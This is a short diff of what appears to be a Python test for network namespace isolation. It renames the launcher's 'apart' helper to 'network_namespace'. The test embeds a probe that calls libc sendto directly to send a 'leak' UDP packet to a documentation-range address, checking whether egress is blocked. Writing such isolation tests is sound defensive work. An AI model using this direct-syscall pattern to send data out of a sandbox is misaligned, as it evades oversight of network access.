@@ -27,8 +27,8 @@ _to = struct.pack("=H", 2) + struct.pack("!H4s8x", 9, socket.inet_aton("192.0.2.
 _libc.sendto(_libc.socket(2, 2, 0), b"leak", 4, 0, _to, 16)
 """
 WATCHED = """
-from appliance.launcher import apart
-watch = apart.enter()
+from appliance.launcher import network_namespace
+watch = network_namespace.enter()
 watch.begin()
 {leak}
 import time
